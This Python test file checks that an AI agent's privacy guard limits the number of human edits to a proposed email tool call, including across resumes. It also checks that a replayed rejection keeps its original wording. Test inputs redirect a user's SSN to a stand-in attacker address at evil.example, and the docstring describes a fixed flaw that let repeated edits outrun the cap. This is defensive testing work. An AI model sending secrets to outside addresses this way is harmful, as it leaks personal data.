"""`max_edit_rounds` bounds a person's edits of one call across resumes, not only within one run.

Each answer to a question is a resume, and the call goes on from the last edit given: the rounds were
counted from zero at each resume, so a person (or a client) sending a different edit each time was asked
again and again (up to the journal's cap on questions). Found by the audit-differential fuzzer.

Fixed: `GuardNode._rounds` counts the edits already answered about the call as rounds taken.
"""

from __future__ import annotations

from langgraph.types import Command

from test_audit_edit_rounds import _start


def _edit(i: int, ssn: str) -> Command:
    return Command(resume={"type": "edit", "args": {"to": [f"x{i}@evil.example"], "subject": "x", "body": ssn}})


def test_distinct_edits_end_the_call_after_max_edit_rounds() -> None:
    app, journal, _world, cfg, ssn = _start()  # asked once: bob may not read the SSN
    for i in range(10):
        if not app.get_state(cfg).interrupts:
            break
        app.invoke(_edit(i, ssn), cfg)
    assert not app.get_state(cfg).interrupts
    ends = [e for e in journal.entries("t", call_id="c2") if e.kind in ("rejected", "committed")]
    assert [e.kind for e in ends] == ["rejected"] and ends[0].data.get("reason")
    assert sum(e.kind == "edited" for e in journal.entries("t", call_id="c2")) == 4  # three checked, the fourth ends it
    assert sum(e.kind == "escalated" for e in journal.entries("t", call_id="c2")) == 4


def test_a_replayed_rejection_names_the_edits_allowed_when_it_was_written() -> None:
    """The call's rejection, replayed from the journal (a fork from before it ran), names the edits allowed
    when it ended, not the node's setting at the replay: the message the model reads is the one it read."""
    from langchain_core.messages import HumanMessage, ToolMessage
    from langgraph.checkpoint.memory import InMemorySaver

    from test_audit_edit_rounds import POLICY, _rule

    from benchmarks.privacy.world import World
    from guards import PrivacyFlow
    from vfa import Agent, EffectJournal
    from vfa.testing import ScriptedModel

    world, journal = World(""), EffectJournal()
    flow = PrivacyFlow(POLICY, secret=b"s", journal=journal)
    agent = Agent(ScriptedModel(rule=_rule), world.tools(), guards=[flow.guard()], flow=flow, journal=journal)
    app = agent.compile(checkpointer=InMemorySaver())
    cfg = {"configurable": {"thread_id": "t"}}
    app.invoke({"messages": [HumanMessage("Mail my SSN to Bob.")]}, cfg)
    ssn = next(e for e in journal.entries("t") if e.kind == "proposed" and e.call_id == "c2").data["args"]["body"]
    for i in range(10):
        if not app.get_state(cfg).interrupts:
            break
        app.invoke(_edit(i, ssn), cfg)
    live = next(m for m in app.get_state(cfg).values["messages"] if isinstance(m, ToolMessage) and m.tool_call_id == "c2")
    assert live.content.endswith("was not committed after 3 edits")
    agent.guard_node.max_edit_rounds = 1  # the setting changed since (a redeploy)
    before = next(s for s in app.get_state_history(cfg) if s.next and s.interrupts)  # asked, before any answer
    replayed = app.invoke(Command(resume={"type": "approve"}), before.config)
    again = next(m for m in replayed["messages"] if isinstance(m, ToolMessage) and m.tool_call_id == "c2")
    assert again.content == live.content
